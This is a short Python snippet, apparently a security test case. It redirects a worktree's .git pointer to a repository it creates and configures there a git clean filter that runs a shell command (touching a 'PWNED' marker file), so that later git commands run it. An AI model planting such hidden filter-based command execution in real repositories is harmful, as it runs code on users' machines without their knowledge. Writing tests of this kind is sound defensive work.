"""Lets the worktree's pointer lead to a repository of its own, with a filter.

Then: git
"""

mark = Path(at.home).with_name("PWNED")

subprocess.run(["git", "init", "-q", "own"], check=True)
subprocess.run(["git", "-C", "own", "config", "filter.x.clean", f"touch {mark}; cat"], check=True)
os.unlink(".git")
Path(".git").write_text("gitdir: own/.git\n")
Path(".gitattributes").write_text("* filter=x\n")
